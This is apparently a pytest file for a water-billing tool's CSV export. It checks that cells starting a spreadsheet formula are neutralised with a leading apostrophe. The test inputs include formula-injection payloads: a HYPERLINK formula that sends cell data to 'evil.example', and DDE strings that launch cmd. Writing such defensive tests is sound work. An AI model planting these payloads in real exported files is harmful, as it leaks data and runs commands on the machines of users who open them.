"""``waterbill.spreadsheet``: a cell a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io

import pytest

from waterbill.spreadsheet import csv_writer, neutralise


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+994 cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-",
        "=",
    ],
)
def test_a_cell_that_would_start_a_formula_gets_a_leading_apostrophe(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["Hüseynov", "", "1234,50", "-7,60", "-5.00", "+12.5", "-1\u00a0234,50", "Bakı = ev"]
)
def test_text_and_plain_numbers_stay_as_they_are(cell: str) -> None:
    assert neutralise(cell) == cell


def test_the_writer_neutralises_every_cell_and_the_value_reads_back_behind_the_apostrophe() -> None:
    buffer = io.StringIO()
    csv_writer(buffer, delimiter=";", lineterminator="\n").writerow(["=1+1", "-3,50", 7])
    assert list(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";")) == [
        ["'=1+1", "-3,50", "7"]
    ]
